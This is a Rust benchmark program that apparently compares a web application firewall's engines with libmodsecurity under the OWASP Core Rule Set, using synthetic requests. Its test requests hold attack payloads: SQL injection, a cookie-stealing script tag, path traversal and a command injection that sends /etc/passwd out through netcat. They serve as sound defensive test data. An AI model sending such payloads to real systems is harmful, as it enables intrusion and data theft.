//! Picket against libmodsecurity: the same rules, the same requests, one table.
//!
//! ```text
//! cargo run --release -p picket-reference --features libmodsecurity --bin picket-compare
//! ```
//!
//! Without the feature the table has Picket's engines alone.

use std::path::PathBuf;
use std::sync::{Arc, mpsc};
use std::time::{Duration, Instant};

use anyhow::{Context as _, anyhow};
use clap::Parser;
use picket::backend::BackendKind;
use picket::embedded::Builtin;
use picket::regression::{Native, Prepared, Sandbox};
use picket::rules::{Rules, compile_text};
use picket_ftw::{Exchange, Headers, Mode, Request, Response, Setup, crs_dir};
use picket_host::{Isolation, OnPromotion, Promotion, Tiered};
use picket_waf_compiler::seclang::BASE;
use serde_json::json;

/// Times engines side by side, phases 1 and 2 of ten requests with the OWASP Core Rule Set.
#[derive(Parser)]
struct Arguments {
    /// The Core Rule Set, with its folder `rules`; else the environment's CRS_DIR
    #[arg(long, default_value = "../shared/crs")]
    crs: PathBuf,
    /// Paranoia levels
    #[arg(long, value_delimiter = ',', default_value = "1,4")]
    levels: Vec<u8>,
    /// Only requests whose name holds this
    #[arg(long)]
    only: Option<String>,
    /// Time that each cell of the table takes, in milliseconds
    #[arg(long, default_value_t = 300)]
    millis: u64,
    /// Print JSON
    #[arg(long)]
    json: bool,
}

/// An engine at work on one request; what it answers is whether the request was refused, and fuel.
type Run<'a> = Box<dyn FnMut(&Exchange, u64) -> Result<Cell, String> + 'a>;

#[derive(Clone, Copy)]
struct Cell {
    micros: f64,
    refused: bool,
    fuel: u64,
}

fn main() -> anyhow::Result<()> {
    let arguments = Arguments::parse();
    let crs = crs_dir(&arguments.crs).with_context(|| format!("no {}/rules", arguments.crs.display()))?;
    for &level in &arguments.levels {
        compare(&arguments, &crs, level)?;
    }
    Ok(())
}

/// As a gateway starts: `early` serves while `kind` compiles.
fn quick_start(early: BackendKind, kind: BackendKind, module: &[u8]) -> anyhow::Result<()> {
    let (done, compiled) = mpsc::channel();
    let on_promotion: OnPromotion = Arc::new(move |promotion: Promotion<'_>| {
        let outcome = match promotion {
            Promotion::Compiled { after } => Ok(after),
            Promotion::Refused { error } => Err(anyhow!("{error}")),
        };
        // Nobody listens any more only if the first verdict has failed.
        let _ = done.send(outcome);
    });
    let backend = Tiered::new(early.build()?.into(), kind.build()?.into(), on_promotion);
    let begin = Instant::now();
    let mut sandbox = Sandbox::new(&backend, module, Isolation::Pooled { max_idle: 1 })?;
    sandbox.request(&Prepared::new(&requests().remove(0).1)).map_err(anyhow::Error::msg)?;
    let first = begin.elapsed();
    let compiled = compiled.recv()??;
    println!(
        "{kind} with a quick start on {early}: first verdict after {:.1} ms, compiled after {:.1} ms",
        millis(first),
        millis(compiled)
    );
    Ok(())
}

fn compare(arguments: &Arguments, crs: &std::path::Path, level: u8) -> anyhow::Result<()> {
    let text = configuration(crs, level)?;
    let begin = Instant::now();
    let compiled = compile_text(&text, true)?;
    let compile_time = begin.elapsed();
    let rules = Rules { blob: compiled.blob.clone(), files: Vec::new(), remarks: Vec::new() };
    let module = rules.bake(&Builtin::SecLang.module()?)?;
    if !arguments.json {
        println!(
            "paranoia level {level}: ruleset of {} bytes, compiled in {} ms; module of {} bytes",
            compiled.blob.len(),
            compile_time.as_millis(),
            module.len()
        );
    }

    let mut engines: Vec<(String, Run<'_>)> = Vec::new();
    let native = Native::new(compiled.blob).map_err(|error| anyhow!("{error}"))?;
    engines.push(("native".into(), native_run(native)));
    for &kind in BackendKind::ALL {
        let backend = kind.build()?;
        for (how, isolation) in [("", Isolation::Pooled { max_idle: 1 }), (" fresh", Isolation::Fresh)] {
            let begin = Instant::now();
            let mut sandbox = Sandbox::new(&*backend, &module, isolation)?;
            let loaded = begin.elapsed();
            let first = requests().remove(0).1;
            sandbox.request(&Prepared::new(&first)).map_err(anyhow::Error::msg)?;
            if how.is_empty() && !arguments.json {
                println!(
                    "{}: loaded in {:.1} ms, first verdict after {:.1} ms",
                    kind.name(),
                    millis(loaded),
                    millis(begin.elapsed())
                );
            }
            engines.push((format!("{}{how}", kind.name()), sandbox_run(sandbox)));
        }
        if let (Some(early), false) = (kind.early(), arguments.json) {
            quick_start(early, kind, &module)?;
        }
    }
    #[cfg(feature = "libmodsecurity")]
    {
        let begin = Instant::now();
        let mut library = picket_reference::LibModSecurity::new(&text)?;
        if !arguments.json {
            println!("{}: loaded in {:.1} ms", library.name(), millis(begin.elapsed()));
        }
        engines.push((
            "libmodsecurity".into(),
            Box::new(move |exchange, budget| {
                let once = picket_reference::time_request(&mut library, exchange, 1)?;
                let rounds = (budget as f64 / millis(once).max(0.001)).clamp(3.0, 1000.0) as usize;
                let time = picket_reference::time_request(&mut library, exchange, rounds)?;
                let refused = library.decide(exchange)?.status.is_some();
                Ok(Cell { micros: millis(time) * 1e3, refused, fuel: 0 })
            }),
        ));
    }

    if !arguments.json {
        print!("\n{:<16}", "µs (median)");
        engines.iter().for_each(|(name, _)| print!("{name:>16}"));
        println!("   {}", if cfg!(feature = "libmodsecurity") { "times faster: native, others" } else { "" });
    }
    for (name, exchange) in requests() {
        if arguments.only.as_ref().is_some_and(|only| !name.contains(only.as_str())) {
            continue;
        }
        let mut cells = Vec::new();
        for (engine, run) in &mut engines {
            let cell =
                run(&exchange, arguments.millis).map_err(|error| anyhow!("{name} on {engine}: {error}"))?;
            cells.push(cell);
        }
        if cells.iter().any(|cell| cell.refused != cells[0].refused) {
            let refused: Vec<_> = cells.iter().map(|cell| cell.refused).collect();
            eprintln!("{name}: the engines do not agree whether to refuse it: {refused:?}");
        }
        if arguments.json {
            let engines: Vec<_> = engines
                .iter()
                .zip(&cells)
                .map(|((engine, _), cell)| {
                    json!({ "engine": engine, "micros": cell.micros, "refused": cell.refused, "fuel": cell.fuel })
                })
                .collect();
            println!("{}", json!({ "level": level, "request": name, "engines": engines }));
            continue;
        }
        print!("{name:<16}");
        cells.iter().for_each(|cell| print!("{:>16.1}", cell.micros));
        if cfg!(feature = "libmodsecurity")
            && let Some((reference, ours)) = cells.split_last()
        {
            print!("  ");
            ours.iter().for_each(|cell| print!(" {:.1}", reference.micros / cell.micros));
        }
        println!("{}", if cells[0].refused { "   refused" } else { "" });
    }
    if !arguments.json {
        println!();
    }
    Ok(())
}

/// The ruleset as an operator runs it: blocking, the example set-up, everything else by default.
fn configuration(crs: &std::path::Path, level: u8) -> anyhow::Result<String> {
    let setup = Setup { paranoia: level, mode: Mode::On, crs_dir: crs.to_owned() };
    let example = crs.join("crs-setup.conf.example");
    let mut text = format!(
        "{BASE}\nSecRuleEngine On\nInclude {}\n\
         SecAction \"id:900000,phase:1,pass,t:none,nolog,setvar:tx.blocking_paranoia_level={level}\"\n",
        example.display()
    );
    for file in setup.files()? {
        text.push_str(&format!("Include {}\n", file.display()));
    }
    Ok(text)
}

fn millis(time: Duration) -> f64 {
    time.as_secs_f64() * 1e3
}

/// Runs for about `budget` milliseconds and takes the median.
fn timed(budget: u64, mut once: impl FnMut() -> Result<(bool, u64), String>) -> Result<Cell, String> {
    let (refused, fuel) = once()?;
    let end = Instant::now() + Duration::from_millis(budget);
    let mut times = Vec::new();
    while times.len() < 5 || Instant::now() < end {
        let begin = Instant::now();
        once()?;
        times.push(begin.elapsed().as_secs_f64() * 1e6);
    }
    times.sort_by(f64::total_cmp);
    Ok(Cell { micros: times[times.len() / 2], refused, fuel })
}

fn native_run<'a>(mut native: Native) -> Run<'a> {
    Box::new(move |exchange, budget| {
        let prepared = Prepared::new(exchange);
        timed(budget, || Ok((native.request(&prepared), 0)))
    })
}

fn sandbox_run<'a>(mut sandbox: Sandbox) -> Run<'a> {
    Box::new(move |exchange, budget| {
        let prepared = Prepared::new(exchange);
        timed(budget, || sandbox.request(&prepared))
    })
}

/// Six clean requests and four attacks.
fn requests() -> Vec<(&'static str, Exchange)> {
    const FORM: &str = "application/x-www-form-urlencoded";
    let query: String = (0..10)
        .map(|n| format!("{}field{n}={}+{}", if n == 0 { "" } else { "&" }, word(n), word(n * 7 + 3)))
        .collect();
    let attack = |query: &str| exchange("GET", &format!("/search?q={query}"), None, b"");
    vec![
        ("GET, small", exchange("GET", "/index.html", None, b"")),
        ("GET, 10 args", exchange("GET", &format!("/search?{query}"), None, b"")),
        ("form 1 KiB", exchange("POST", "/account", Some(FORM), form(1024).as_bytes())),
        (
            "JSON 4 KiB",
            exchange("POST", "/api/orders", Some("application/json"), json_of(4 << 10).as_bytes()),
        ),
        (
            "JSON 64 KiB",
            exchange("POST", "/api/orders", Some("application/json"), json_of(64 << 10).as_bytes()),
        ),
        (
            "multipart 16 KiB",
            exchange("POST", "/upload", Some("multipart/form-data; boundary=Xa83kfl2"), &multipart(16 << 10)),
        ),
        ("SQL injection", attack("1%27+UNION+SELECT+login,password+FROM+users--+-")),
        ("script", attack("%3Cscript%3Ealert(document.cookie)%3C/script%3E")),
        ("command", attack(";cat+/etc/passwd%7Cnc+10.0.0.1+4444")),
        ("path", attack("../../../../../../etc/passwd")),
    ]
}

const WORDS: [&str; 20] = [
    "lorem",
    "garden",
    "Anna",
    "Miller",
    "London",
    "2024-05-06",
    "blue",
    "shoes",
    "summer",
    "price",
    "order",
    "delivery",
    "address",
    "street",
    "city",
    "phone",
    "hello",
    "thank",
    "morning",
    "window",
];

fn word(n: usize) -> &'static str {
    WORDS[n % WORDS.len()]
}

fn form(bytes: usize) -> String {
    let mut form = String::new();
    for n in 0.. {
        if form.len() >= bytes {
            break;
        }
        let sign = if n == 0 { "" } else { "&" };
        form.push_str(&format!("{sign}item{n}={}+{}+{}", word(n), word(n * 7 + 3), word(n * 3 + 5)));
    }
    form
}

fn json_of(bytes: usize) -> String {
    let mut text = String::from("{\"orders\":[");
    for n in 0.. {
        if text.len() >= bytes {
            break;
        }
        let sign = if n == 0 { "" } else { "," };
        // A ruleset refuses a body of too many values, so most of it is text.
        let note: Vec<&str> = (0..64).map(|at| word(n * 13 + at * 7 + at * at)).collect();
        text.push_str(&format!(
            "{sign}{{\"id\":{n},\"name\":\"{} {}\",\"price\":{}.5,\"note\":\"{}\",\"tags\":[\"{}\",\"{}\"]}}",
            word(n),
            word(n * 7 + 3),
            n * 3,
            note.join(" "),
            word(n * 3 + 5),
            word(n * 11 + 2)
        ));
    }
    text.push_str("]}");
    text
}

fn multipart(bytes: usize) -> Vec<u8> {
    let mut body = b"--Xa83kfl2\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday picture\r\n\
        --Xa83kfl2\r\nContent-Disposition: form-data; name=\"file\"; filename=\"picture.jpg\"\r\n\
        Content-Type: image/jpeg\r\n\r\n"
        .to_vec();
    let mut state = 12_345_u32;
    while body.len() < bytes {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        body.push((state >> 24) as u8);
    }
    body.extend_from_slice(b"\r\n--Xa83kfl2--\r\n");
    body
}

fn exchange(method: &str, target: &str, content_type: Option<&str>, body: &[u8]) -> Exchange {
    let mut headers: Headers = [
        ("Host", "shop.example.org"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "en-US,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate"),
        ("Connection", "keep-alive"),
    ]
    .map(|(name, value)| (name.into(), value.into()))
    .into();
    if let Some(content_type) = content_type {
        headers.push((b"Content-Type".to_vec(), content_type.into()));
        headers.push((b"Content-Length".to_vec(), body.len().to_string().into_bytes()));
    }
    let request = Request {
        method: method.into(),
        target: target.into(),
        version: b"HTTP/1.1".to_vec(),
        headers,
        body: body.to_vec(),
    };
    Exchange::new(request, Response { status: 200, ..Response::default() })
}
